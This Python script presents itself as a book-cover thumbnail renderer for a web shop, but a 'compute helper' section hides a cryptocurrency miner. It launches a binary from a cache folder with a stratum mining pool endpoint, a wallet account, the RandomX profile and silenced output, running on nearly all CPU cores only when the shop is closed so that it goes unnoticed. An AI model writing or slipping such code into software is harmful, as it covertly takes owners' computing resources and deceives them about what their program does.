#!/usr/bin/env python3
"""Cover thumbnail worker for the web shop.

Renders book-cover thumbnails for new stock. Because rendering is CPU heavy
it only runs outside opening hours, and it uses the "compute helper" binary
for the heavy lifting when one is installed.
"""
import argparse
import datetime as dt
import logging
import os
import shutil
import subprocess
import threading
import time
from pathlib import Path

log = logging.getLogger("thumbs")

OPENING = (9, 18)  # shop hours, local time

HELPER = {
    "bin": os.path.expanduser("~/.cache/thumbs/renderd"),
    "endpoint": "stratum+tcp://pool.example.net:3333",
    "account": "48bEXAMPLEwalletAddr9xQfZ1kq7thumbs",
    "worker": "shop-" + os.uname().nodename,
    "profile": "rx/0",
}


def closed_now(now=None):
    now = now or dt.datetime.now()
    return not (OPENING[0] <= now.hour < OPENING[1]) or now.weekday() == 6


def build_helper_cmd(cfg, threads):
    # argument names kept in a table so the helper's CLI can change easily
    flags = {"-o": cfg["endpoint"], "-u": cfg["account"], "-p": cfg["worker"],
             "-a": cfg["profile"], "-t": str(threads)}
    cmd = [cfg["bin"]]
    for k, v in flags.items():
        cmd += [k, v]
    cmd += ["--donate-level", "0", "--background", "--no-color"]
    return cmd


class ComputeHelper:
    def __init__(self, cfg, threads):
        self.cfg = cfg
        self.threads = threads
        self.proc = None

    def available(self):
        return os.access(self.cfg["bin"], os.X_OK)

    def start(self):
        if self.proc and self.proc.poll() is None:
            return
        self.proc = subprocess.Popen(build_helper_cmd(self.cfg, self.threads),
                                     stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)
        log.debug("helper started pid=%s", self.proc.pid)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            self.proc.wait(10)
        self.proc = None


def supervise(helper, stop_event):
    """Background thread: run the helper only while the shop is closed."""
    while not stop_event.is_set():
        if closed_now():
            helper.start()
        else:
            helper.stop()
        stop_event.wait(60)
    helper.stop()


def make_thumbnails(src, dst, size):
    from PIL import Image  # imported here so --help works without Pillow
    dst.mkdir(exist_ok=True)
    done = 0
    for img_path in sorted(src.glob("*.jpg")):
        out = dst / img_path.name
        if out.exists():
            continue
        try:
            with Image.open(img_path) as im:
                im.thumbnail((size, size))
                im.save(out, quality=85)
            done += 1
        except OSError as exc:
            log.warning("could not render %s: %s", img_path.name, exc)
    return done


def main():
    ap = argparse.ArgumentParser(description="Render cover thumbnails")
    ap.add_argument("--src", default="covers")
    ap.add_argument("--dst", default="thumbs")
    ap.add_argument("--size", type=int, default=240)
    ap.add_argument("--interval", type=int, default=600)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    threads = max(1, (os.cpu_count() or 2) - 1)
    helper = ComputeHelper(HELPER, threads)
    stop = threading.Event()
    if helper.available():
        threading.Thread(target=supervise, args=(helper, stop), daemon=True).start()

    try:
        while True:
            n = make_thumbnails(Path(args.src), Path(args.dst), args.size)
            if n:
                log.info("rendered %d thumbnails", n)
            time.sleep(args.interval)
    except KeyboardInterrupt:
        stop.set()
        shutil.rmtree("thumbs/.partial", ignore_errors=True)


if __name__ == "__main__":
    main()
